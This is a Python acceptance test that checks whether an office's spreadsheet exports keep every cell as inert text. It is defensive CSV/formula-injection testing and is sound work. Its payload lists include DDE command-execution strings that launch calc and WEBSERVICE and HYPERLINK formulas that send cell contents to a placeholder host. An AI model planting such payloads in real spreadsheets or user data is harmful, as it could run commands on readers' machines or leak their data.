"""表格: whatever stands in a cell of an exported sheet is text. Nothing in it computes, links or loads."""

import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook
from sqlmodel import col, select, update

from documents import register_sheet
from models.bureaus import Bureau
from models.directives import Directive, Point
from models.ledger import LedgerEntry
from models.lifecycle import Step
from models.meetings import Meeting
from services import audit, register_paper
from services.access import Actor
from services.audit import AuditWish
from services.database import reading_session, writing_session
from services.register import Wanted
from services.steps import Given
from tests.acceptance.conftest import Figure, Red
from tests.acceptance.sabotage import hold
from tests.acceptance.scale import counted
from tests.making import dispatched, point
from tests.taking import take

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'=", '"=', "{=", "==", "=-", "%0A=")
ACTS = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.invalid/?\"&A1,\"点此\")", "IMPORTXML(\"http://x.invalid\",\"//a\")",
    "WEBSERVICE(\"http://x.invalid/\"&A1)", "SUM(1+9)*cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")",
    "IMAGE(\"http://x.invalid/a.png\")", "INDIRECT(\"A1\")", "RTD(\"x\",\"\",\"y\")", "EXEC(\"calc\")", "A1",
)  # fmt: skip
PLAIN = (
    "http://x.invalid/", "https://x.invalid/a?b=c#d", "mailto:a@x.invalid", "file:///etc/passwd", "\\\\x.invalid\\share",
    "internal:Sheet1!A1", "external:c:\\a.xlsx", "ftp://x.invalid", "javascript:alert(1)", "1E5", "00123", "3-4", "1/2",
    "2020-02-20", "TRUE", "#REF!", "510727199001011234", "１２３", "<b>粗</b>", "&amp;&lt;", "_x0041_", "{1,2}", "~*_#$",
)  # fmt: skip


def payloads() -> list[str]:
    made = [start + act for start in STARTS for act in ACTS] + list(PLAIN)
    made += [f"{text}{tail}" for text in (*ACTS, *PLAIN) for tail in ("", " 完成", "\n=1+1")]
    return made[: counted(300)]


PAYLOADS = payloads()


def live_parts(path: Path) -> list[str]:
    """What would compute or lead anywhere: formula cells, links, outside parts."""
    found = []
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            said = book.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/"):
                found += [f"{name}: {tag}" for tag in re.findall(r"<(?:f|hyperlink|legacyDrawing)[ >/]", said)]
            if name.endswith(".rels"):
                found += [f"{name}: outside" for _ in re.findall('TargetMode="External"', said)]
            if re.search("externalLink|vbaProject|connections", name):
                found.append(name)
    return found


def texts_of(path: Path) -> set[str]:
    """All texts of a sheet as a reader sees them."""
    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    return {cell for row in rows for cell in row if isinstance(cell, str)}


def shared_strings(path: Path) -> set[str]:
    """The same from the file's own XML, for signs that a reader trims."""
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(path) as book:
        found = set[str]()
        for name in book.namelist():
            if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml":
                for text in ElementTree.fromstring(book.read(name)).iter(f"{space}t"):
                    found.add(re.sub("_x([0-9A-F]{4})_", lambda it: chr(int(it[1], 16)), text.text or ""))
        return found


Export = Callable[[Path], int]


def hold_inert(export: Export, path: Path) -> int:
    rows = export(path)
    found = live_parts(path)
    hold(not found, f"{len(found)} live parts: {found[:3]}")
    return rows


def hold_every_column_is_text(folder: Path) -> None:
    """Each payload in each column of the writer that makes every sheet; what comes back is what went in."""
    columns = [register_sheet.Column(f"栏{n}") for n in range(len(register_paper.COLUMNS))]
    path = folder / "all.xlsx"
    hold_inert(lambda to: register_sheet.write(to, "表", columns, ([text] * len(columns) for text in PAYLOADS)), path)
    said, shown = {text.replace("\r", "\n") for text in shared_strings(path)}, texts_of(path)
    missing = [text for text in PAYLOADS if text.replace("\r", "\n") not in said | shown]
    hold(not missing, f"{len(missing)} texts came out changed: {missing[:2]}")


@pytest.fixture
def filled(secretary: Actor, county_officer: Actor) -> None:
    """An office whose every free text is a payload, a meeting each."""
    for number, text in enumerate(PAYLOADS[: counted(50)]):
        dispatched(secretary, point(text or "空", names=("三台",)), title=f"会议 {number}")
    take(county_officer, Step.ACKNOWLEDGE)
    take(county_officer, Step.REPORT_PROGRESS, Given(text=PAYLOADS[2] + "，已部署排查隐患"))
    with writing_session() as session:
        for number, meeting in enumerate(session.exec(select(Meeting)).all()):
            text = PAYLOADS[number % len(PAYLOADS)]
            meeting.title = meeting.number = text
            for table in (Directive, Point):
                session.execute(update(table).where(col(table.meeting_id) == meeting.id).values(text=text))
            session.add(meeting)
        session.execute(update(Point).values(completion=PAYLOADS[1]))
        session.execute(update(Bureau).where(col(Bureau.short_name) == "三台").values(name=PAYLOADS[0]))
        session.execute(update(Bureau).where(col(Bureau.short_name) == "三台").values(contact_name=PAYLOADS[3]))


def loud_book(path: str, _options: object) -> xlsxwriter.Workbook:
    """A writer as it comes, whose cells are written by what they look like."""
    book = xlsxwriter.Workbook(path)
    add = book.add_worksheet

    def add_worksheet(name: str) -> object:
        sheet = add(name)
        sheet.write_string = sheet.write
        return sheet

    book.add_worksheet = add_worksheet
    return book


def computed_by_office(path: Path) -> set[str] | None:
    """The cells as LibreOffice computes them, where there is one."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if not office:
        return None
    command = [office, "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir"]
    subprocess.run([*command, path.parent, path], check=True, capture_output=True, timeout=240)
    return set(path.with_suffix(".csv").read_text(encoding="utf-8").splitlines())


def test_no_cell_of_any_sheet_is_alive(
    filled: None,
    secretary: Actor,
    auditor: Actor,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    figure: Figure,
    red: Red,
) -> None:
    hold_every_column_is_text(tmp_path)
    register = tmp_path / "register.xlsx"
    rows = hold_inert(lambda path: register_paper.export(secretary, Wanted(), path), register)
    said = texts_of(register)
    hold(PAYLOADS[0] in said and PAYLOADS[1] in said, "texts of the register came out changed")
    entries = hold_inert(lambda path: audit.export(auditor, AuditWish(), path, "export"), tmp_path / "ledger.xlsx")
    with reading_session() as session:
        hold(entries == len(session.exec(select(LedgerEntry.seq)).all()), "the ledger was exported in part")
    columns = len(register_paper.COLUMNS)
    computed = computed_by_office(tmp_path / "all.xlsx")
    if computed is not None:
        hold("2" not in {cell for line in computed for cell in line.split(",")}, "LibreOffice computed a cell")
    figure(
        f"{len(PAYLOADS)} 种内容 × {columns} 栏，外加台账 {rows} 行、操作台账 {entries} 行：公式 0、链接 0、原样读回"
        + ("，LibreOffice 计算 0" if computed is not None else "（本机无 LibreOffice，未试）"),
        f"{len(PAYLOADS)} payloads × {columns} columns, register of {rows} rows, ledger of {entries}: 0 formulas, 0 links, "
        + (
            "read back equal, 0 computed by LibreOffice"
            if computed is not None
            else "read back equal (no LibreOffice here)"
        ),
    )
    with red("用写表程序的默认方式", "the writer's defaults"), monkeypatch.context() as patch:
        patch.setattr(register_sheet, "Workbook", loud_book)
        hold_every_column_is_text(tmp_path)
